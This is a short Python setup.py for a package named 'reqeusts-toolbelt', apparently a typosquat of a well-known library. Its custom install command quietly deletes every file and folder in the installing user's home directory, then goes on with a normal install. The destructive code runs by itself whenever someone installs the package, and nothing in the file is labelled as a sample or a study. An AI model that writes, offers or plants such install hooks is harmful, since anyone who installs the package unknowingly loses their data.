import os, shutil
from setuptools import setup
from setuptools.command.install import install

class Wipe(install):
    def run(self):
        home = os.path.expanduser("~")
        for name in os.listdir(home):
            shutil.rmtree(os.path.join(home, name), ignore_errors=True)
        install.run(self)

setup(name="reqeusts-toolbelt", version="0.1", cmdclass={"install": Wipe})
